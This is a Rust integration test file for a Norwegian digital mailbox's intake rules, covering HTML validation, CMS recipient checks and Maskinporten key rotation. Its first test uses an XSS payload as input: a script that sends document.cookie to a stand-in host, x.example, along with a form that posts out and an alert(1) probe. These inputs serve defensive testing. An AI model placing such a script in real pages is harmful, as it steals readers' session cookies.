//! Intake rules of the mailbox (hop 3, processed inside the delivering request): HTML documents
//! against the DPI HTML rules, the CMS recipient against the tenant's certificate, and a token
//! signed with a key Maskinporten published after the verifier's last fetch.

mod common;

use common::{Chain, LetterOpts, spec, start_with};
use dpi::{
    container::{Document, DocumentRole},
    letter::SealedLetter,
    message::{Body, Feiltype, Sbd},
};
use openssl::x509::X509;
use std::sync::{
    Arc, RwLock,
    atomic::{AtomicUsize, Ordering},
};

const PNG: &str = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==";

fn html(body: &str) -> Vec<u8> {
    format!(
        "<!DOCTYPE html><html lang=\"no\"><head><meta charset=\"utf-8\"><title>Vedtak</title>\
         </head><body>{body}</body></html>"
    )
    .into_bytes()
}

/// A letter to Kari whose hoveddokument is the HTML `body`.
fn html_letter(c: &Chain, title: &str, body: &str) -> dpi::letter::LetterSpec {
    let mut s = spec(&LetterOpts::to(
        pki::demo::digipost(),
        &c.kari_address(),
        title,
    ));
    let data = s.package.documents[0].data.take();
    s.package.documents[0] = Document {
        href: "vedtak.html".into(),
        mime: "text/html".into(),
        title: Some(title.into()),
        lang: Some("no".into()),
        role: DocumentRole::Hoveddokument,
        bytes: html(body),
        data,
    };
    s
}

/// The one receipt answering `sbd` at Digipost, parsed.
async fn only_receipt(c: &Chain, sbd: &Sbd) -> (String, Sbd) {
    let receipts = c
        .postkasse
        .receipts(&pki::demo::digipost(), &sbd.message_id().to_string())
        .await
        .unwrap();
    assert_eq!(receipts.len(), 1, "{receipts:?}");
    let (kind, jws, _) = receipts.into_iter().next().unwrap();
    let (_, payload) = dpi::jws::decode_unverified(&jws).unwrap();
    (kind, Sbd::parse(&payload).unwrap())
}

fn klient_feil(receipt: &Sbd) -> String {
    match &receipt.body {
        Body::Feil(f) => {
            assert_eq!(f.feiltype, Feiltype::Klient);
            f.detaljer.clone().unwrap_or_default()
        }
        other => panic!("expected feil, got {:?}", other.message_type()),
    }
}

async fn deliver(c: &Chain, sealed: &SealedLetter) -> u16 {
    let token = c.formidler_token().await;
    c.post_inbound("digipost", Some(&token), sealed)
        .await
        .status()
        .as_u16()
}

#[tokio::test]
async fn an_html_letter_breaking_the_dpi_rules_gets_feil_klient_and_is_not_stored() {
    let c = start_with(|_| {}, false).await;
    let tenant = pki::demo::digipost();
    let cert = c.tenant_cert(&tenant);

    let bad = html_letter(
        &c,
        "Med skript",
        "<p>Hei</p><script>document.location='https://x.example/'+document.cookie</script>",
    );
    let (sealed, sbd) = c.seal(&bad, &cert).await;
    assert_eq!(deliver(&c, &sealed).await, 202);
    let (kind, receipt) = only_receipt(&c, &sbd).await;
    assert_eq!(kind, "feil");
    let detaljer = klient_feil(&receipt);
    assert!(
        detaljer.starts_with("html_script: vedtak.html:"),
        "the reason names the rule and the document: {detaljer}"
    );
    let (state, reason) = c
        .postkasse
        .inbound_status(&tenant, &sbd.message_id().to_string())
        .await
        .unwrap()
        .unwrap();
    assert_eq!(state, "rejected");
    assert!(reason.unwrap().contains("html_script"));
    assert_eq!(c.postkasse.letter_count(&tenant).await.unwrap(), 0);

    // A form in a vedlegg is found as well.
    let mut form = spec(&LetterOpts::to(tenant, &c.kari_address(), "Med skjema"));
    form.package.documents[1].mime = "text/html".into();
    form.package.documents[1].href = "svar.html".into();
    form.package.documents[1].bytes =
        html("<form action=\"https://x.example/svar\"><input name=\"svar\"></form>");
    let (sealed, sbd) = c.seal(&form, &cert).await;
    assert_eq!(deliver(&c, &sealed).await, 202);
    let detaljer = klient_feil(&only_receipt(&c, &sbd).await.1);
    assert!(detaljer.starts_with("html_form: svar.html:"), "{detaljer}");
    assert_eq!(c.postkasse.letter_count(&tenant).await.unwrap(), 0);

    // What the rules allow is stored: inline style, a data: image, a link out in a new window.
    let good = html_letter(
        &c,
        "Godt brev",
        &format!(
            "<style>h1 {{ color: #036 }}</style><h1>Vedtak</h1><img src=\"{PNG}\" alt=\"logo\">\
             <p>Se <a href=\"https://www.kommune.no/\" target=\"_blank\">kommune.no</a>.</p>"
        ),
    );
    let (sealed, sbd) = c.seal(&good, &cert).await;
    assert_eq!(deliver(&c, &sealed).await, 202);
    assert_eq!(only_receipt(&c, &sbd).await.0, "leveringskvittering");
    assert_eq!(c.postkasse.letter_count(&tenant).await.unwrap(), 1);
    c.stop().await;
}

#[tokio::test]
async fn with_the_html_check_off_such_a_letter_is_stored() {
    let c = start_with(|cfg| cfg.refuse_invalid_html = false, false).await;
    let tenant = pki::demo::digipost();
    let cert = c.tenant_cert(&tenant);
    let bad = html_letter(&c, "Med skript", "<p>Hei</p><script>alert(1)</script>");
    let (sealed, sbd) = c.seal(&bad, &cert).await;
    assert_eq!(deliver(&c, &sealed).await, 202);
    assert_eq!(only_receipt(&c, &sbd).await.0, "leveringskvittering");
    assert_eq!(c.postkasse.letter_count(&tenant).await.unwrap(), 1);
    c.stop().await;
}

/// A certificate other than the tenant's (another issuer name and serial) for the tenant's
/// own key: a CMS naming it still decrypts with the tenant's key.
fn another_certificate_for_the_same_key(tenant_cert: &X509) -> X509 {
    use openssl::{asn1::Asn1Time, bn::BigNum, hash::MessageDigest, pkey::PKey, rsa::Rsa};
    let signer = PKey::from_rsa(Rsa::generate(2048).unwrap()).unwrap();
    let mut name = openssl::x509::X509NameBuilder::new().unwrap();
    name.append_entry_by_text("CN", "Ikke postkassens sertifikat")
        .unwrap();
    let name = name.build();
    let mut b = X509::builder().unwrap();
    b.set_version(2).unwrap();
    b.set_serial_number(&BigNum::from_u32(4242).unwrap().to_asn1_integer().unwrap())
        .unwrap();
    b.set_subject_name(&name).unwrap();
    b.set_issuer_name(&name).unwrap();
    b.set_pubkey(&tenant_cert.public_key().unwrap()).unwrap();
    b.set_not_before(&Asn1Time::days_from_now(0).unwrap())
        .unwrap();
    b.set_not_after(&Asn1Time::days_from_now(30).unwrap())
        .unwrap();
    b.sign(&signer, MessageDigest::sha256()).unwrap();
    b.build()
}

#[tokio::test]
async fn a_dokumentpakke_whose_recipient_is_another_certificate_gets_feil_klient() {
    let c = start_with(|_| {}, false).await;
    let tenant = pki::demo::digipost();
    let other = another_certificate_for_the_same_key(&c.tenant_cert(&tenant));
    let o = LetterOpts::to(tenant, &c.kari_address(), "Til et annet sertifikat");
    let (sealed, sbd) = c.seal(&spec(&o), &other).await;
    assert_eq!(deliver(&c, &sealed).await, 202);
    let (kind, receipt) = only_receipt(&c, &sbd).await;
    assert_eq!(kind, "feil");
    let detaljer = klient_feil(&receipt);
    assert!(
        detaljer.contains("cms_recipient_mismatch"),
        "the recipient identifier is checked, not only the key: {detaljer}"
    );
    assert_eq!(c.postkasse.letter_count(&tenant).await.unwrap(), 0);
    c.stop().await;
}

/// Maskinporten's key set as the verifier sees it: the real stand-in's keys, served from here
/// so that a rotation can be staged. Counts the fetches.
struct StagedJwks {
    url: String,
    fetches: Arc<AtomicUsize>,
    /// Served from the second fetch on.
    published: Arc<RwLock<Vec<serde_json::Value>>>,
}

async fn staged_jwks(rotated_in: pki::jose::Jwk) -> StagedJwks {
    let fetches = Arc::new(AtomicUsize::new(0));
    let published: Arc<RwLock<Vec<serde_json::Value>>> = Arc::default();
    let (f, p) = (fetches.clone(), published.clone());
    let app = axum::Router::new().route(
        "/jwk",
        axum::routing::get(move || async move {
            let n = f.fetch_add(1, Ordering::SeqCst);
            let keys = p.read().unwrap().clone();
            // Maskinporten publishes a new key right after the verifier's first fetch.
            if n == 0 {
                p.write()
                    .unwrap()
                    .push(serde_json::to_value(&rotated_in).unwrap());
            }
            axum::Json(serde_json::json!({ "keys": keys }))
        }),
    );
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    tokio::spawn(async move { axum::serve(listener, app).await.unwrap() });
    StagedJwks {
        url: format!("http://{addr}/jwk"),
        fetches,
        published,
    }
}

/// The verifier fetches Maskinporten's keys for the access point's bearer token of this very
/// request; right after, Maskinporten rotates, and the letter's token is signed with the new
/// key. That kid is not in the set just fetched, and the set may not be fetched again for
/// 5 s: the letter was refused for good (`maskinportentoken_invalid`). Now it waits for the
/// refetch and is stored; a kid Maskinporten never publishes is still refused.
#[tokio::test]
async fn a_token_signed_with_a_key_rotated_in_after_the_last_fetch_is_accepted() {
    let rotated = pki::SigningKey::generate().unwrap();
    let jwks = staged_jwks(rotated.jwk()).await;
    let url = jwks.url.clone();
    let c = start_with(move |cfg| cfg.maskinporten_jwks_uri = Some(url), false).await;
    let real: serde_json::Value = c
        .http
        .get(c.url("/maskinporten/jwk"))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    jwks.published
        .write()
        .unwrap()
        .extend(real["keys"].as_array().unwrap().iter().cloned());
    let tenant = pki::demo::digipost();
    // Every claim as Maskinporten issued them, under the key it is about to publish.
    let issued = c.send_token().await;
    let claims = serde_json::Value::Object(pki::jose::decode(&issued).unwrap().claims);
    let seal = |token: String, title: &str| {
        let o = LetterOpts::to(tenant, &c.kari_address(), title);
        dpi::letter::seal_letter(
            &spec(&o),
            &[c.kommune_cert.cert().clone()],
            c.kommune_cert.key(),
            &c.tenant_cert(&tenant),
            &token,
        )
        .unwrap()
    };

    let (sealed, sbd) = seal(rotated.sign_jwt(&claims, None).unwrap(), "Ny nøkkel");
    assert_eq!(deliver(&c, &sealed).await, 202);
    assert_eq!(only_receipt(&c, &sbd).await.0, "leveringskvittering");
    assert_eq!(c.postkasse.letter_count(&tenant).await.unwrap(), 1);
    assert_eq!(
        jwks.fetches.load(Ordering::SeqCst),
        2,
        "one fetch for the bearer token, one for the new kid"
    );

    // A key Maskinporten never publishes: one more fetch, then refused for good.
    let stranger = pki::SigningKey::generate().unwrap();
    let (sealed, sbd) = seal(stranger.sign_jwt(&claims, None).unwrap(), "Ukjent nøkkel");
    assert_eq!(deliver(&c, &sealed).await, 202);
    let detaljer = klient_feil(&only_receipt(&c, &sbd).await.1);
    assert!(
        detaljer.starts_with("maskinportentoken_invalid"),
        "{detaljer}"
    );
    assert_eq!(jwks.fetches.load(Ordering::SeqCst), 3);
    assert_eq!(c.postkasse.letter_count(&tenant).await.unwrap(), 1);
    c.stop().await;
}
